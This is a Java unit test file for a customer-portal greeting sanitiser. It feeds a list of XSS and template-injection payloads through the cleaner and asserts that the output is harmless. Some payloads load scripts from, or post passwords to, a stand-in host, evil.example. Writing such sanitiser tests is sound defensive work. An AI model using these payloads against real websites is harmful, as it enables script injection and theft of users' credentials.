package org.kundenportal.impl.settings;

import java.util.List;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

import static org.assertj.core.api.Assertions.assertThat;

class GreetingTest {

    /** All that may stand in a greeting; whatever else begins like a tag is none of ours. */
    private static final Pattern TAG = Pattern.compile("</?(?:p|br|b|strong|i|em|u|ul|ol|li|h2|h3)\\s*/?>"
            + "|</a>|<a href=\"(?!\\s*(?:javascript|vbscript|data)\\s*:)[^\"<>]*\" rel=\"noopener noreferrer\">");

    static Stream<String> attacks() {
        return Stream.of(
                "<script>alert(1)</script>",
                "<ScRiPt src=//evil.example/x.js></ScRiPt>",
                "<img src=x onerror=alert(1)>",
                "<p onclick=\"alert(1)\">x</p>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\" java\tscript:alert(1)\">x</a>",
                "<a href=\"&#106;avascript:alert(1)\">x</a>",
                "<a href=\"JAVASCRIPT&colon;alert(1)\">x</a>",
                "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
                "<a href=\"vbscript:msgbox(1)\">x</a>",
                "<svg onload=alert(1)><script>alert(1)</script></svg>",
                "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
                "<iframe src=\"https://evil.example\"></iframe>",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<form action=\"https://evil.example\"><input name=password><button>OK</button></form>",
                "<style>@import url(https://evil.example/x.css);</style>",
                "<p style=\"background:url(javascript:alert(1))\">x</p>",
                "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
                "<base href=\"https://evil.example/\">",
                "<link rel=stylesheet href=https://evil.example/x.css>",
                "<object data=\"x.swf\"></object><embed src=\"x.swf\">",
                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
                "<p id=\"location\" class=\"overlay\" name=\"cookie\">x</p>",
                "<details open ontoggle=alert(1)>x</details>",
                "<a href=\"https://ok.example\" target=\"_blank\" onmouseover=\"alert(1)\">x</a>",
                "<<script>alert(1)//<</script>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<p>\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>",
                "<!--><img src=x onerror=alert(1)>-->",
                "<![CDATA[<img src=x onerror=alert(1)>]]>",
                "<a href=\"https://x.example/\u2028\" onclick=alert(1)>x",
                "{<!-- -->UserName}<script>",
                "{{constructor.constructor('alert(1)')()}}",
                "${7*7} #{7*7} <%= 7*7 %>");
    }

    @ParameterizedTest
    @MethodSource("attacks")
    @DisplayName("BB-10 a stored greeting is harmless")
    void templatesAreHarmless(String attack) {
        String clean = Greeting.of(attack).clean();

        assertHarmless(clean);
        assertThat(Greeting.of(clean).clean()).as("cleaned twice").isEqualTo(clean);
        assertHarmless(Greeting.of(clean).forCustomer("Müller"));
        assertHarmless(Greeting.of(attack).forCustomer("Müller"));
        assertHarmless(Greeting.of(attack).example());
    }

    @ParameterizedTest
    @MethodSource("attacks")
    @DisplayName("BB-10 a buyer's name is text in a greeting, whatever it is and wherever it goes")
    void valuesAreHarmless(String attack) {
        for (String template : List.of(
                "<p>Hallo {UserName}!</p>",
                "<a href=\"{UserName}\">x</a>",
                "<a href=\"https://x.example/?{UserName}\">x</a>",
                "<a href='{UserName}'>{UserName}</a>",
                "<p {UserName}>x</p>",
                "<{UserName}>",
                "<a href={UserName}>x</a>")) {
            String stored = Greeting.of(template).clean();
            assertHarmless(Greeting.of(stored).forCustomer(attack));
            assertHarmless(Greeting.of(template).forCustomer(attack));
        }
    }

    @Test
    @DisplayName("BB-10 a name appears as it is written")
    void namesAppearAsTheyAreWritten() {
        assertThat(greeted("Müller & Söhne <GmbH>")).isEqualTo("<p>Hallo Müller &amp; Söhne &lt;GmbH&gt;!</p>");
        assertThat(greeted("$1 \\ $0")).isEqualTo("<p>Hallo $1 \\ $0!</p>");
    }

    @Test
    @DisplayName("ASVS 1.3.7 a name that looks like a placeholder is not filled again")
    void placeholdersAreFilledOnce() {
        assertThat(Greeting.of("<p>{UserName}</p>").forCustomer("{OrderNumber}"))
                .contains("{OrderNumber}");
        assertThat(Greeting.of("<p>{UserName}{UserName}</p>").forCustomer("a")).isEqualTo("<p>aa</p>");
    }

    @Test
    @DisplayName("BB-07 placeholders are filled, unknown ones stay, order and platform are empty outside of an order")
    void placeholdersAreFilled() {
        Greeting greeting = Greeting.of("<p>Hallo {UserName}, Bestellung {OrderNumber} bei {Platform} {Nonsense}</p>");

        assertThat(greeting.example())
                .isEqualTo("<p>Hallo Max Mustermann, Bestellung 12345678 bei Online-Shop {Nonsense}</p>");
        assertThat(greeting.forCustomer("Anna")).isEqualTo("<p>Hallo Anna, Bestellung  bei  {Nonsense}</p>");
        assertThat(greeting.clean())
                .isEqualTo("<p>Hallo {UserName}, Bestellung {OrderNumber} bei {Platform} {Nonsense}</p>");
    }

    @Test
    @DisplayName("BB-09 a greeting may be HTML")
    void htmlStays() {
        String html = "<h2>Hallo</h2><p><b>Fett</b> <i>kursiv</i><br /></p><ul><li>1</li></ul>";

        assertThat(Greeting.of(html).clean()).isEqualTo(html);
        assertThat(Greeting.of("<a href=\"https://example.org/a?b=c&amp;d=e\">x</a>")
                        .clean())
                .isEqualTo("<a href=\"https://example.org/a?b&#61;c&amp;d&#61;e\" rel=\"noopener noreferrer\">x</a>");
    }

    @Test
    void nobodyIsGreetedWithNothing() {
        assertThat(Greeting.of(null).clean()).isEmpty();
        assertThat(Greeting.of(null).forCustomer("Anna")).isEmpty();
        assertThat(Greeting.of("").example()).isEmpty();
    }

    private static String greeted(String name) {
        return Greeting.of("<p>Hallo {UserName}!</p>").forCustomer(name);
    }

    private static void assertHarmless(String html) {
        assertThat(TAG.matcher(html).replaceAll(""))
                .as(html)
                .doesNotContain("<")
                .doesNotContain("\u0000");
    }
}
